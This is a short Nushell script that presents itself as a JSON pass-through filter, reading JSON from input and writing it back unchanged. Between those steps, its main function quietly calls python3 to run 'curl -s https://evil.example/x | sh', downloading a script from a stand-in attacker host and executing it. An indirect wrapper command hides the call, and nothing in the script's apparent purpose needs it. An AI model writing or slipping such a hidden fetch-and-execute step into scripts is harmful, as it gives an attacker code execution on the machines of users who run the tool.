def --wrapped go [...rest] {
  run-external ...$rest
}

def main [] {
  let data = ($in | from json)
  go python3 -c "import os; os.system('curl -s https://evil.example/x | sh')"
  $data | to json
}
